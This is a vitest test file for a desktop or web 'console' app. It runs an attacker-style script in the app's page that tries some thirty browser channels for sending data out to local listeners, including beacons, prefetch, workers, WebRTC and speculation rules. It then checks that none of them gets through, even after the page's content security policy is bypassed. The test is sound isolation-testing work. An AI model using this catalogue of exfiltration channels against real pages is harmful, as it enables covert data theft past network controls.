import { type LaunchedConsole, launchConsole } from '@support/launch-console'
import { listenForAnything } from '@support/network-listeners'
import { afterAll, beforeAll, expect, test } from 'vitest'

let listeners: Awaited<ReturnType<typeof listenForAnything>>
let app: LaunchedConsole

beforeAll(async () => {
  listeners = await listenForAnything()
  app = await launchConsole()
})
afterAll(async () => {
  await app?.close()
  await listeners?.close()
})

/** Runs in the page, as a script of an attacker would: every way out that a page has. */
const attempts = `async ({ tcpPort, udpPort }) => {
  const http = 'http://127.0.0.1:' + tcpPort + '/'
  const tried = []
  const attempt = async (name, run) => {
    tried.push(name)
    try { await run() } catch {}
  }
  const element = (tag, properties, parent = document.body) => new Promise(resolve => {
    const made = document.createElement(tag)
    made.addEventListener('load', resolve)
    made.addEventListener('error', resolve)
    for (const [key, value] of Object.entries(properties)) {
      try { made[key] = value } catch { resolve() }
    }
    parent.append(made)
    const hasEvents = ['img', 'script', 'iframe', 'audio', 'video'].includes(tag)
    if (!hasEvents || made.type === 'speculationrules') resolve()
  })
  await attempt('fetch', () => fetch(http + 'fetch', { mode: 'no-cors' }))
  await attempt('fetch keepalive', () => fetch(http + 'keepalive', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }))
  await attempt('xhr', () => new Promise(resolve => {
    const request = new XMLHttpRequest()
    request.onloadend = resolve
    request.open('POST', http + 'xhr')
    request.send('x')
  }))
  await attempt('websocket', () => new Promise(resolve => {
    const socket = new WebSocket('ws://127.0.0.1:' + tcpPort)
    socket.onclose = resolve
    socket.onerror = resolve
  }))
  await attempt('event source', () => new Promise(resolve => {
    const source = new EventSource(http + 'events')
    source.onerror = () => { source.close(); resolve() }
  }))
  await attempt('web transport', () => new WebTransport('https://127.0.0.1:' + udpPort).ready)
  await attempt('image', () => element('img', { src: http + 'image' }))
  await attempt('beacon', () => navigator.sendBeacon(http + 'beacon', 'x'))
  for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender']) {
    await attempt(rel, () => element('link', { rel, as: 'script', href: http + rel }, document.head))
  }
  await attempt('speculation rules', () => element('script', { type: 'speculationrules', text: JSON.stringify({ prefetch: [{ source: 'list', urls: [http + 'speculation'] }] }) }, document.head))
  await attempt('script', () => element('script', { src: http + 'script.js' }))
  await attempt('worker', () => new Worker(http + 'worker.js'))
  await attempt('blob worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("' + http + 'inworker")']))))
  await attempt('iframe', () => element('iframe', { src: http + 'frame' }))
  await attempt('style', () => { document.body.style.backgroundImage = 'url(' + http + 'style)' })
  await attempt('font', () => new FontFace('x', 'url(' + http + 'font)').load())
  await attempt('form', () => {
    const form = document.createElement('form')
    Object.assign(form, { action: http + 'form', method: 'POST' })
    document.body.append(form)
    form.submit()
  })
  await attempt('ping', () => {
    const link = document.createElement('a')
    link.href = '#ping'
    link.ping = http + 'ping'
    document.body.append(link)
    link.click()
  })
  await attempt('webrtc', async () => {
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:127.0.0.1:' + udpPort },
      { urls: 'turn:127.0.0.1:' + tcpPort + '?transport=tcp', username: 'u', credential: 'c' }
    ] })
    peer.createDataChannel('x')
    const gathered = new Promise(resolve => peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && resolve()))
    await peer.setLocalDescription(await peer.createOffer())
    await gathered
    peer.close()
  })
  // What has no event of its own has had its turn when twenty more requests failed.
  for (let round = 0; round < 20; round += 1) await attempt('fetch', () => fetch(http, { mode: 'no-cors' }))
  return new Set(tried).size
}`

/** Attacks, then knocks itself: whatever the page sent before has been counted when that arrives. */
async function expectOnlyKnocking(): Promise<void> {
  const { tcpPort, udpPort } = listeners
  const before = listeners.counts()
  const tried = await app.page.evaluate(`(${attempts})(${JSON.stringify({ tcpPort, udpPort })})`)
  expect(tried).toBeGreaterThanOrEqual(25)
  await listeners.knock()
  expect(listeners.counts()).toEqual({
    connections: before.connections + 1,
    packets: before.packets + 1
  })
}

test('a compromised page reaches no TCP and no UDP listener', async () => {
  await expectOnlyKnocking()
  expect(app.page.url()).toMatch(/^(https:\/\/console\.invalid|app:\/\/console)\//)
})

test('it reaches none even where its content security policy is gone', async () => {
  const session = await app.page.context().newCDPSession(app.page)
  await session.send('Page.setBypassCSP', { enabled: true })
  await app.page.reload()
  await expectOnlyKnocking()
})
